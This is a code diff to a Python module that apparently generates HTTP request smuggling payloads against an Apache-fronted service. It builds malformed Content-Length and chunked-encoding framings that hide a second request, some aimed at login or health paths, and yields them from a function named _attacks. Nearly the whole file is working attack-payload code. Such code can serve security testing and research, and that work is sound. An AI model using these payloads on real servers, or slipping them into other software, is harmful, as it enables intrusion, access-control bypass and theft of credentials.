@@ -1,10 +1,8 @@
 """Requests whose bodies would be requests, were their end not found where it is."""
 
-from .streams import CREDENTIALS, HIDDEN, LIST
 from .service import BASE
+from .streams import CREDENTIALS, HIDDEN, LIST
 
-# The head and a part of so long a body go through Apache before the rest has come.
-_LONG = 16384
 # A chunked body that ends at once for who reads chunks, and a length for who does not.
 _ENDED = b"0\r\n\r\n"
 _CODINGS = {
@@ -72,9 +70,16 @@ _TRAILERS = {
     "no-colon": b"X\r\n",
 }
 _SIZES = {
-    "0x": b"0x%x", "plus": b"+%x", "minus": b"-%x", "space-before": b" %x", "space-after": b"%x ",
-    "overflow": b"1000000000000000%x", "underscore": b"0_%x", "capital": b"%X", "nul": b"%x\0",
-}  # fmt: skip
+    "0x": b"0x%x",
+    "plus": b"+%x",
+    "minus": b"-%x",
+    "space-before": b" %x",
+    "space-after": b"%x ",
+    "overflow": b"1000000000000000%x",
+    "underscore": b"0_%x",
+    "capital": b"%X",
+    "nul": b"%x\0",
+}
 
 
 def _chunked(payload, size=b"%x", extension=b"", line_end=b"\r\n", data_end=b"\r\n", trailers=b""):
@@ -99,10 +104,11 @@ def _framed():
     """Yield (name, fields of the framing, body)."""
     for number, hidden in enumerate(HIDDEN):
         for digits in (2, 18, 19, 30, 5000):
-            yield f"{digits}-digits-{number}", b"Content-Length: %0*d" % (digits, len(hidden)), hidden
+            length = b"Content-Length: %0*d" % (digits, len(hidden))
+            yield f"{digits}-digits-{number}", length, hidden
     for digits in (5, 19, 30, 5000):
-        # Wherever it is cut, at a multiple of 8 KiB a request begins.
-        body = _align(HIDDEN[0], 8192) * (_LONG // 8192 + 1)
+        # Where it is cut, at a multiple of 8 KiB, a request begins.
+        body = _align(HIDDEN[0], 8192) * 3
         yield f"{digits}-digits-long", b"Content-Length: %0*d" % (digits, len(body)), body
     for name, coding in _CODINGS.items():
         for number, hidden in enumerate(HIDDEN[::2]):
@@ -133,13 +139,15 @@ def _attacks():
     for name, fields, body in _framed():
         yield name, line + fields + b"\r\n\r\n", body
         yield f"{name}-lf-head", line + fields + b"\n\n", body
+        if name in ("2-digits-0", "coding-chunked-0"):
+            yield f"{name}-lf-lines", (line + fields + b"\r\n\r\n").replace(b"\r", b""), body
         if name.startswith(("coding", "short")) or name.endswith("digits-0"):
             old = line.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Connection: keep-alive\r\n"
             yield f"{name}-1.0", old + fields + b"\r\n\r\n", body
         if "digits" in name:
             for method, path in (("GET", "/Logout"), ("POST", "/Health")):
-                line_ = f"{method} {BASE}{path} HTTP/1.1\r\nHost: a\r\n".encode()
-                yield f"{name}-{method}{path}", line_ + fields + b"\r\n\r\n", body
+                unknown = f"{method} {BASE}{path} HTTP/1.1\r\nHost: a\r\n".encode()
+                yield f"{name}-{method}{path}", unknown + fields + b"\r\n\r\n", body
 
 
 # {name: (head, body)}
